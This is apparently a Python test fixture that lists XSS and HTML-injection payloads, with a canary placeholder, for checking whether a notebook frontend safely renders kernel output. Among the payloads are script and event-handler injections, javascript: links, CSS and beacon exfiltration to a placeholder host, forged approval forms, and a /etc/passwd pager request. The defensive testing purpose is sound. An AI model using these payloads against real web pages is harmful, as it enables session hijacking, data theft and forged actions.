"""What code in a kernel may have shown, so as to act in the reader's page.

In each text ``JS`` stands for JavaScript that sounds every alarm at once (a call of the watched
global, the title, a request to another place, a vote), ``CALL`` for the call alone, ``NET`` for
an address of another place, and ``HERE`` for the payload's name (`active_canary.filled`).
"""

from __future__ import annotations

from typing import Final

HTML: Final = {
    "script": "<script>JS</script>",
    "script-remote": '<script src="NET"></script>',
    "script-module": "<script type=module>JS</script>",
    "script-in-work-folder": '<script src="/files/evil.js?payload=HERE"></script>',
    "image-onerror": '<img src="x:" onerror="JS">',
    "image-remote": '<img src="NET">',
    "image-srcset": '<img srcset="NET 1x"><picture><source srcset="NET"><img></picture>',
    "image-of-the-logout": '<img src="/logout?payload=HERE">',
    "image-of-the-api": '<img src="/zt/api/approvals?payload=HERE">',
    "svg-script": "<svg xmlns='http://www.w3.org/2000/svg' onload=\"JS\"><script>JS</script></svg>",
    "svg-foreign-object": '<svg><foreignObject><iframe srcdoc="<script>JS</script>"></iframe>'
    '<img src="x:" onerror="JS"></foreignObject></svg>',
    "svg-use": '<svg><use href="NET#x"></use><image href="NET"/><feImage href="NET"/></svg>',
    "svg-animated-link": '<svg><a><animate attributeName=href values="javascript:JS"/>'
    '<set attributeName=href to="javascript:JS"/><text y=20>press</text></a></svg>',
    "details-ontoggle": '<details open ontoggle="JS"><summary>press</summary></details>',
    "autofocus-onfocus": '<input autofocus onfocus="JS"><textarea autofocus onfocus="JS">'
    "</textarea>",
    "style-onanimation": "<style>@keyframes k{}</style>"
    '<p style="animation:k 1s" onanimationstart="JS">x</p>',
    "link-javascript": '<a href="javascript:JS">press</a>',
    "link-javascript-disguised": '<a href="&#1;java&Tab;scri&NewLine;pt:JS">press</a>',
    "link-data": '<a href="data:text/html,<script>JS</script>">press</a>',
    "link-relative": '<a href="/logout?payload=HERE">press</a>',
    "link-ping-and-download": '<a href="#x" ping="NET" download="x.html">press</a>',
    "area-javascript": '<map name=m><area shape=default href="javascript:JS"></map>'
    '<img usemap="#m" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">',
    "meta-refresh": '<meta http-equiv=refresh content="0;url=NET">',
    "base": '<base href="NET/"><img src="a.png"><a href="b">press</a>',
    "link-elements": '<link rel=stylesheet href="NET"><link rel=preload as=image href="NET">'
    '<link rel=prefetch href="NET"><link rel=preconnect href="NET"><link rel=icon href="NET">',
    "iframe-remote": '<iframe src="NET"></iframe>',
    "iframe-same-origin": '<iframe src="/lab?payload=HERE"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>JS</script>"></iframe>',
    "iframe-javascript": '<iframe src="javascript:JS"></iframe><frameset onload="JS"></frameset>',
    "object-and-embed": '<object data="NET"></object><embed src="NET">'
    '<object data="data:text/html,<script>JS</script>"></object>',
    "media": '<video src="NET" poster="NET" autoplay></video><audio src="NET" autoplay></audio>'
    '<video><source src="NET" onerror="JS"></video><track src="NET">',
    "css-url": "<style>p{background:url(NET);list-style:url(NET);cursor:url(NET),auto}</style>"
    '<p style="background-image:url(NET);content:url(NET)">x</p>',
    "css-import": "<style>@import url(NET); @import 'NET';</style>",
    "css-font": "<style>@font-face{font-family:f;src:url(NET)} p{font-family:f}</style><p>x</p>",
    "css-exfiltration": "<style>input[value^=s]{background:url(NET)}"
    ':root:has(input){--x:url(NET);background:var(--x)}</style><input value="secret">',
    "css-repaints-the-page": "<style>*{display:none!important}</style>"
    '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">Approve?</div>',
    "form-to-the-approvals": '<form action="/zt/api/approvals/p_0/votes?payload=HERE" method=post>'
    "<button>press</button><input type=image></form>",
    "form-elsewhere": '<form id=f action="NET"></form><button form=f formaction="NET">press'
    '</button><button formaction="javascript:JS" form=f>press</button>',
    "command-link": '<a data-commandlinker-command="help:open" '
    """data-commandlinker-args='{"url": "/lab?payload=HERE", "text": "HERE"}'>press</a>""",
    "command-button": '<button data-commandlinker-command="help:open" '
    """data-commandlinker-args='{"url": "/lab?payload=HERE", "text": "HERE"}'>press</button>""",
    "command-on-a-table": '<table data-commandlinker-command="help:open" '
    """data-commandlinker-args='{"url": "/lab?payload=HERE", "text": "HERE"}'>"""
    "<tr><td>press</td></tr></table>",
    "dom-clobbering": "<form id=jupyter-config-data name=jupyter-config-data>{}</form>"
    "<a id=ztDemo></a><img name=cookie><form name=body><input name=firstChild>"
    "<input name=payload value=HERE></form>"
    '<div id=jp-main-dock-panel class="jp-Dialog">x</div><a id=defaultView href="javascript:JS">x',
    "mutation-noscript": '<noscript><p title="</noscript><img src=x: onerror=JS>"></noscript>',
    "mutation-template": "<template><script>JS</script></template>"
    "<div><template shadowrootmode=open><script>JS</script><img src=NET></template></div>",
    "comment-breakout": '<!--><img src="x:" onerror="JS">-->',
    "mathml-link": '<math><mtext href="javascript:JS" onclick="JS">press</mtext>'
    '<maction actiontype="statusline#NET" xlink:href="javascript:JS">press</maction></math>',
    "custom-element": '<x-y onclick="JS" is=z contenteditable onblur="JS">press</x-y>',
    "fetch-xhr-websocket-beacon": "<script>fetch(`NET`);new(Image)().src=`NET`;"
    "new WebSocket(`NET`.replace(`http`,`ws`));navigator.sendBeacon(`NET`);"
    "let x=new XMLHttpRequest();x.open(`POST`,`/zt/api/approvals/p_0/votes?payload=HERE`);x.send()"
    "</script>",
    "tex-in-html": r"$\href{/logout?payload=HERE}{press}$ "
    r"$\hr<wbr>ef{/logout?payload=HERE}{press}$ "
    r"$\hr<!-- -->ef{/logout?payload=HERE}{press}$ \(\style{position:fixed;inset:0}{x}\)",
    "tex-command-made-of-parts": r"$\csname hr\endcsname$ "
    r"$\let\x\href \x{/logout?payload=HERE}{press}$ "
    r"$\def\x{\hre}\x f{/logout?payload=HERE}{press}$",
}

MARKDOWN: Final = {
    "links": "[press](javascript:CALL) [press](data:text/html,<script>CALL</script>) "
    "<javascript:CALL> [press][r]\n\n[r]: javascript:CALL",
    "images": "![x](NET) ![x][r] ![x](/zt/api/approvals?payload=HERE)\n\n[r]: NET",
    "html": '<img src="x:" onerror="JS">\n\n<script>JS</script>\n\n<iframe src="NET"></iframe>',
    "mermaid": '```mermaid\ngraph TD\n a["<img src=x: onerror=JS>"]-->b\n'
    ' click a href "javascript:CALL"\n```',
    "maths": r"$\href{/logout?payload=HERE}{press}$ and $$\class{jp-Dialog}{x}$$ $\cssId{top}{x}$",
    "maths-with-html": r'$x<img src="x:" onerror="JS">y$ and $$</p><script>JS</script>$$',
}

BUNDLES: Final[dict[str, dict[str, object]]] = {
    "javascript": {"application/javascript": "JS"},
    "text-javascript": {"text/javascript": "JS"},
    "svg": {
        "image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload=\"JS\" width='9'>"
        '<script>JS</script><image href="NET"/><style>@import url(NET);</style><foreignObject>'
        "<iframe xmlns='http://www.w3.org/1999/xhtml' src=\"NET\"/></foreignObject></svg>"
    },
    "svg-breakout": {"image/svg+xml": '"><script>JS</script><img src="x:" onerror="JS">'},
    "png-breakout": {"image/png": '"><script>JS</script>', "text/plain": "a picture"},
    "plotly": {
        "application/vnd.plotly.v1+json": {
            "data": [{"x": [1], "y": [1], "text": '<a href="javascript:JS">press</a>'}],
            "layout": {"images": [{"source": "NET"}]},
        }
    },
    "bokeh": {"application/vnd.bokehjs_exec.v0+json": "", "text/html": "<script>JS</script>"},
    "mermaid": {
        "text/vnd.mermaid": 'graph TD\n a["<img src=x: onerror=JS>"]-->b\n'
        ' click a href "javascript:CALL"'
    },
    "video": {"video/mp4": "AAAA", "text/html": '<video src="NET" autoplay></video>'},
    "raw-frame-type": {"application/vnd.zt.html": '<script>JS</script><img src="NET">'},
    "disguised-type": {"TEXT/HTML": "<script>JS</script>", "text/html;x=1": "<script>JS</script>"},
    "json": {"application/json": {"<img src=x: onerror=JS>": "javascript:JS", "u": "NET"}},
    "latex": {"text/latex": r"$\href{/logout?payload=HERE}{press}$ \[\require{html}\style{x}{y}\]"},
    "latex-html": {"text/latex": '$x</div><script>JS</script><img src="x:" onerror="JS">$'},
    "plain": {"text/plain": "<script>JS</script>"},
    "result": {
        "application/vnd.zt.result+json": {
            "v": "1",
            "connection": "<script>JS</script>",
            "columns": [
                {
                    "name": '<img src="x:" onerror="JS">',
                    "type": "<svg onload=JS>",
                    "mask": {"kind": "__proto__", "tag": '"><script>JS</script>'},
                },
                {"name": {"toString": "JS"}, "type": ["x"], "mask": 5},
            ],
            "rows": [['<img src="NET">', {"__proto__": {"text": "JS"}}], "x", 5, None],
            "row_count": "<b onmouseover=JS>",
            "seconds": "<script>",
            "record": '"><img src="NET">',
            "truncated": {"limit": "<script>JS</script>", "value": "1", "hint": "<img src=NET>"},
            "approved_by": ["<script>JS</script>", {"x": 1}],
        }
    },
    "held": {
        "application/vnd.zt.held+json": {
            "v": "1",
            "state": "waiting",
            "connection": '<img src="x:" onerror="JS">',
            "message": '<a href="javascript:JS">press</a>',
            "approval": {
                "id": "../../logout?payload=HERE",
                "reviewer_role": "<script>JS</script>",
                "quorum": "<svg onload=JS>",
                "reasons": ["<script>JS</script>", {"html": "JS"}],
                "expires_at": "2999-01-01T00:00:00Z",
            },
        }
    },
    "react": {
        "application/vnd.zt.react+json": {
            "v": "1",
            "step": "<script>JS</script>",
            "thought": '<img src="NET" onerror="JS">',
            "action": {"connection": "<b>", "command": '<a href="javascript:JS">press</a>'},
            "observation": "<script>JS</script>",
            "status": '"><script>JS</script>',
        }
    },
}

# Python that a kernel runs. `session`, `socket` and `parent` are its own means of saying anything.
PROGRAMS: Final = {
    "isolated-metadata": """
display({"text/html": "<script>JS</script>"}, raw=True,
        metadata={"isolated": True, "trusted": True, "text/html": {"isolated": True}})""",
    "set-next-input-and-pager": """
payloads = get_ipython().payload_manager
get_ipython().set_next_input("payload_wrote_this_cell = 1")
payloads.write_payload({"source": "page", "start": 0, "data": {"text/html": "<script>JS</script>"}})
payloads.write_payload({"source": "edit_magic", "filename": "/etc/passwd", "line_number": 0})""",
    "update-swaps-a-display": """
shown = display({"text/plain": "harmless"}, raw=True, display_id=True)
shown.update({"text/html": '<img src="x:" onerror="JS"><script>JS</script>'}, raw=True)""",
    "clear-swaps-an-output": """
from IPython.display import clear_output
print("harmless")
clear_output(wait=True)
display({"text/html": '<img src="x:" onerror="JS">', "text/plain": "x"}, raw=True)""",
    "comm-messages": """
state = {"_model_module": "NET", "_model_name": "X", "_view_module": "NET", "_view_name": "X"}
for kind in ("comm_open", "comm_msg", "comm_close"):
    session.send(socket, kind, {"comm_id": "m", "target_name": "jupyter.widget", "data": {
        "state": state, "method": "update", "content": '<img src="x:" onerror="JS">'}},
        parent=parent, metadata={"version": "2.1.0"})""",
    "error-of-html": """
raise type('<img src="x:" onerror="JS">', (Exception,), {})('<script>JS</script>')""",
    "error-message-of-html": """
session.send(socket, "error", {"ename": "<script>JS</script>", "evalue": '<img src="NET">',
    "traceback": ['<a href="javascript:JS">press</a>', '\\x1b[31m<img src="x:" onerror="JS">']},
    parent=parent)""",
    "ansi-links": r"""
print("\x1b]8;;javascript:JS\x07press\x1b]8;;\x07 \x1b[38;2;1;2;3;url(NET)mx\x1b[0m")
print("\x1b[\"onmouseover=JS mx \x1b]0;title\x07 \x1b[5;31m<script>JS</script>\x1b[0m")""",
    "stream-of-html": """
print('<script>JS</script><img src="x:" onerror="JS"><iframe src="NET"></iframe>')
print('javascript:JS www."onmouseover=`x`.org http://"><img/src=x:/onerror=JS> file:///etc/passwd')
import sys; print('<img src="NET">', file=sys.stderr)""",
    "unknown-messages": """
for kind in ("display", "execute_reply", "debug_event", "javascript", "input_request"):
    session.send(socket, kind, {"data": {"text/html": "<script>JS</script>"}, "prompt": "JS",
        "source": "JS", "metadata": {}}, parent=parent)
session.send(socket, "status", {"execution_state": "<script>JS</script>"}, parent=parent)
session.send(socket, "execute_input", {"code": '<img src="x:" onerror="JS">',
    "execution_count": "<script>JS</script>"}, parent=parent)""",
    "malformed-displays": """
for data in ([["text/html", "<script>JS</script>"]], "JS", {"text/html": {"x": "JS"}}, None,
             {"text/html": ["<script>", "JS</script>"]}):
    session.send(socket, "display_data", {"data": data, "metadata": {"isolated": True},
        "transient": {"display_id": {"toString": "JS"}}}, parent=parent, buffers=[b"<script>"])""",
    "frame-of-data": """
import pandas as pd
evil = '<img src="x:" onerror="JS"><script>JS</script><a href="javascript:JS">press</a>'
table = pd.DataFrame({evil: [evil]}, index=pd.Index([evil], name=evil))
display(table)
display({"text/html": table.to_html(escape=False)}, raw=True)""",
    "styler-of-data": """
try:
    import jinja2
except ImportError:
    print("no Styler here")
else:
    styler = table.style.set_caption(evil).set_table_attributes('onmouseover="JS" onclick="JS"')
    styler.set_table_styles([{"selector": "td", "props": "background:url(NET)"},
        {"selector": "}</style><script>JS</script><style>a", "props": "color:red"}])
    display(styler)""",
    "huge": """
display({"text/html": '<img src="x:" onerror="JS">' + "x" * 9_000_000}, raw=True)
display({"text/html": "<b>" * 2_000 + '<img src="x:" onerror="JS">'}, raw=True)
display({"application/vnd.zt.result+json": {"columns": [{"name": "a", "type": "text"}],
    "rows": [["<b>x</b>"]] * 60_000}}, raw=True)
nested = []
for _ in range(900):
    nested = [nested]
display({"application/json": nested}, raw=True)
print("x" * 9_000_000)""",
    "answers-to-the-page": """
kernel.do_inspect = lambda *a, **k: {"status": "ok", "found": True, "metadata": {},
    "data": {"text/html": "<script>JS</script>", "text/plain": '<img src="x:" onerror="JS">'}}
kernel.do_complete = lambda code, at: {"status": "ok", "cursor_start": at - 1, "cursor_end": at,
    "matches": ['x<img src="x:" onerror="JS">', "x<script>JS</script>", "x"],
    "metadata": {"_jupyter_types_experimental": [
        {"text": "a", "type": '"><script>JS</script>', "signature": "<img src=NET>"}]}}
type(kernel).banner = '<img src="x:" onerror="JS"> javascript:JS'
kernel.help_links = [{"text": '<img src="x:" onerror="JS">', "url": "javascript:JS"}]
kernel.language_info = {**kernel.language_info, "pygments_lexer": "<script>JS</script>",
    "nbconvert_exporter": "evil.Exporter", "mimetype": "<script>", "name": "<script>"}""",
}
# A kernel writes to the work folder: what the broker never sees, and what people may open.
WRITES_FILES: Final = """
import nbformat.v4 as nb
from pathlib import Path
cells = [nb.new_code_cell("1", outputs=[
    nb.new_output("display_data", data=bundle, metadata={"text/html": {"isolated": at % 2 == 0}})
    for at, bundle in enumerate(batch)]) for batch in BATCHES]
cells += [nb.new_markdown_cell(text) for batch in BATCHES for bundle in batch
    for mime, text in bundle.items() if mime in ("text/html", "text/markdown")]
book = nb.new_notebook(cells=cells, metadata={"kernelspec": {"name": "zt", "display_name": "x"}})
for cell in book.cells:
    cell.metadata["trusted"] = True
Path("written.ipynb").write_text(json.dumps(book))
page = "\\n\\n".join(bundle.get("text/html", "") for batch in BATCHES for bundle in batch)
Path("evil.html").write_text(page)
Path("evil.md").write_text(page)
Path("evil.svg").write_text(BATCHES[SVG[0]][SVG[1]]["image/svg+xml"])
Path("evil.js").write_text("JS")"""
PROMPT: Final = """input('<img src="x:" onerror="JS"><script>JS</script>')"""
